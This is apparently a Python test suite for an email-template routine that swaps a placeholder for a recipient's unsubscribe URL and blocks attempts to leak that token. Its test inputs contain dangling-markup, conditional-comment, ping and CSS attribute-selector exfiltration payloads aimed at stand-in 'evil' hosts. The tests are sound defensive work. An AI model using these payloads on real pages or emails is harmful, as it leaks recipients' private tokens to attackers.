"""Whatever a page consists of, readers find the unsubscribe link nowhere but as the whole target of an `<a>`."""

# ruff: noqa: E501  # pages are easier to read on one line

from __future__ import annotations

import re

import justhtml
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from ddp.errors import Invalid
from ddp.placeholder import PLACEHOLDER
from ddp.placeholder.page import exchange

pytestmark = pytest.mark.thorough

URL = "https://ddp.example.com/unsubscribe/AgToken-_x"
LINK = f'<a href="{PLACEHOLDER}">x</a>'

PIECES = [
    LINK, f"<a href='{PLACEHOLDER}'>", f"<a href={PLACEHOLDER}>", PLACEHOLDER, "<img src='https://evil/?", '<img src="https://evil/?',
    "'", '"', ">", "<", "</", "=", " ", "/", "a", "<a ", "<a href=", "href=", "x='", '<b a="', "</b>", "<!--", "-->", "--!>", "--",
    "<!-->", "<!--->", "<![endif]-->", "<!--[if mso]>", "<!--[if !mso]><!-->", "<!--<![endif]-->", "<![endif]>", "<![if x]>",
    "<![CDATA[", "]]>", "<?x", "<!doctype html>", "<style>", "</style>", "<style", "</style x", "<title>", "</title>", "<textarea>",
    "</textarea>", "<script>", "</script>", "<noscript>", "</noscript>", "<svg>", "</svg>", "<math>", "<xmp>", "</xmp>", "<iframe>",
    "</iframe>", "<plaintext>", "<template>", "</template>", "<select>", "<table>", "<td>", "\n", "\x0c", "ping=https://evil", "xlink:",
    "<noembed>", "</noembed>", "<svg/><style>", "<a/href=", "<A HREF=\"", "<area href=\"", "<base href=\"", "</a ", "<p", "&quot;", "&gt;",
]  # fmt: skip


def found_by_the_standard(html: str) -> list[str]:
    """Where a reader that follows the HTML standard finds the link in a wrong place."""
    wrong = []
    todo = list(justhtml.JustHTML(html, sanitize=False).root.children)
    while todo:
        node = todo.pop()
        todo += getattr(node, "children", None) or []
        for name, value in (getattr(node, "attrs", None) or {}).items():
            if URL in (value or "") and (node.name, name, value) != ("a", "href", URL):
                wrong.append(f"{node.name} {name}")
        if node.name == "#text" and URL in str(node.data):
            wrong.append("text")
    return wrong


def found_by_libxml(html: str) -> list[str]:
    """Where a reader that does not follow the standard finds it."""
    tree = lxml_html.fromstring(f"<html><body>{html}</body></html>")
    return [
        f"{element.tag} {name}"
        for element in tree.iter("*")
        for name, value in element.attrib.items()
        if URL in value and (element.tag, name, value) != ("a", "href", URL)
    ]


def as_outlook_sees(html: str) -> str:
    """The page with what conditional comments contain."""
    return re.sub(r"<!--\[if [^\]]*\]>|<!\[endif\]-->", "", html)


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14))
@example(["<img src='https://evil/?", LINK, "'>"])
@example(["<!--[if mso]><img src='https://evil/?", "-->", LINK, "'>", "<![endif]-->"])
@example(["<!--[if mso]>", "<img src='https://evil/?", "<![endif]-->", LINK, "'>"])
@example(["<noscript><!-- </noscript><img src='https://evil/?-->", LINK, "'</noscript>"])
@example(["<", "<svg>", "img src='https://evil/?", LINK, "'>"])
def test_readers_find_the_link_only_where_it_belongs(pieces: list[str]) -> None:
    try:
        html = exchange("".join(pieces), URL).html
    except Invalid:
        return
    assert found_by_the_standard(html) == []
    assert found_by_libxml(html) == []
    assert found_by_the_standard(as_outlook_sees(html)) == []
    assert PLACEHOLDER not in html


@pytest.mark.parametrize(
    "tag",
    [
        f'<a href="{PLACEHOLDER}">',
        f"<A HREF='{PLACEHOLDER}' >",
        f"<a\n class=x href={PLACEHOLDER}>",
        f'<a class="x"href=" {PLACEHOLDER} ">',
        f'<a title="a > b" href="{PLACEHOLDER}" target=_blank>',
        f'<table><tr><td width=1% "><a href="{PLACEHOLDER}">',
        f'<!--[if !mso]><!--><a href="{PLACEHOLDER}">x</a><!--<![endif]-->',
        f'<p>1 < 2 & 3 <a href="{PLACEHOLDER}">',
    ],
)
def test_the_whole_target_of_a_link_is_exchanged(tag: str) -> None:
    page = exchange(f"{tag}Leave</a>", URL)
    assert page.is_linked
    assert page.html.count(f'href="{URL}"') == 1
    assert page.html.count(URL) == 1


@pytest.mark.parametrize(
    "html",
    [
        f'<a href="https://evil.example/?{PLACEHOLDER}">',
        f'<a href="{PLACEHOLDER}?x">',
        f'<a name="{PLACEHOLDER}">',
        f'<a href="x" href="{PLACEHOLDER}">',
        f'<a xhref="{PLACEHOLDER}">',
        f'</a href="{PLACEHOLDER}">',
        f'<ax href="{PLACEHOLDER}">',
        f"<p>{PLACEHOLDER}</p>",
        f"<!-- {LINK} -->",
        f"<title>{LINK}</title>",
        f"<style>{LINK}</style>",
        f"<p title='{LINK}'>",
    ],
)
def test_elsewhere_it_is_a_word(html: str) -> None:
    page = exchange(html, URL)
    assert not page.is_linked
    assert "ddp.example.com" not in page.html
    assert "unsubscribe" in page.html


def test_what_outlook_reads_has_links_too() -> None:
    hidden = f"<!--[if mso]><table><tr><td>{LINK}</td></tr></table><![endif]-->"
    page = exchange(hidden, URL)
    assert page.html == hidden.replace(PLACEHOLDER, URL)
    assert not page.is_linked, "others do not see it"


@pytest.mark.parametrize(
    "html",
    [
        "<!doctype html><html><head><title>Hi</title><meta charset=utf-8></head><body><p>a<br/>b</p></body></html>",
        "<style>.sm\\:w-full[class~='x']{color:red}@media (max-width:9px){a[x-apple-data-detectors]{color:red}}</style>",
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->",
        "<!--[if !mso]><!-- --><p>x</p><!--<![endif]--><![if !mso]><p>y</p><![endif]>",
        '<script type="application/ld+json">{"@type": "EmailMessage", "a": "<b>"}</script>',
        '<img src="a.png" alt="1 > 0"><a href="https://shop.example/?a=1&amp;b=2">Shop</a>',
    ],
)
def test_all_else_stays_as_it_is(html: str) -> None:
    assert exchange(html, URL).html == html


def test_what_only_some_readers_read_is_the_same_for_all() -> None:
    assert exchange("<noscript><b></noscript>", URL).html == "<x-noscript><b></x-noscript>"
    assert exchange('<LINK rel="stylesheet" href="x">', URL).html == '<x-LINK rel="stylesheet" href="x">'
    hidden = "<!--[if mso]><img alt='<![endif]-->"
    assert exchange(f"{hidden}<p>'></p>", URL).html == "<!----><p>'></p>"
    assert exchange("<p title='a<b'>", URL).html == "<p title='a&lt;b'>"
    assert (
        exchange("<!--[if mso]><img alt='--><p>'<!--<![endif]-->", URL).html == "<!----><p>'<!--<![endif]-->"
    )


@pytest.mark.parametrize(
    "html", ["<p", "<p title='x>", "<!-- x", "<style>p{}", "<title>x</titlex>", "<!doctype", "</p"]
)
def test_an_unfinished_page_is_refused(html: str) -> None:
    with pytest.raises(Invalid, match="The page ends inside of what begins with") as refused:
        exchange(f"<p>Hello</p>{html}", URL)
    assert refused.value.code == "template-invalid"


def test_a_link_tells_nobody_that_it_was_followed() -> None:
    page = exchange(f'<a ping="https://evil.example" href="{PLACEHOLDER}" PING=x>', URL)
    assert page.html == f'<a x-ping="https://evil.example" href="{URL}" x-PING=x>'


@pytest.mark.parametrize(
    "css",
    [
        "a[href*='Ag']{background:url(https://evil/Ag)}",
        "a[ HREF ^= 'x']{color:red}",
        "a[\\68ref*='Ag']{color:red}",
        "a[\\000068 ref*='Ag']{color:red}",
        "a[h\\r ef*='Ag']{color:red}",
        "a[/*]*/href*='Ag']{color:red}",
        "a[*|href*='Ag']{color:red}",
        "a[|href*='Ag']{color:red}",
    ],
)
def test_style_sheets_cannot_select_links_by_their_address(css: str) -> None:
    sheet = exchange(f"<style>{css}</style>", URL).html
    assert re.search(r"\[x-|x-68ref|x-000068|hx-r", sheet), sheet
    assert "[href" not in sheet.lower()


@pytest.mark.parametrize(
    "css", ["@import url(https://evil/x.css);", "@IMPORT 'x';", "@\\69mport 'x';", "@i\\6dport 'x'"]
)
def test_style_sheets_load_no_others(css: str) -> None:
    assert re.search(r"@x-|@ix-", exchange(f"<style>{css}</style>", URL).html)


def test_style_sheets_do_not_show_addresses() -> None:
    sheet = exchange("<style>a:after{content:attr(href)} b:after{content:at\\74r(href)}</style>", URL).html
    assert sheet == "<style>a:after{content:x-attr(href)} b:after{content:atx-74r(href)}</style>"
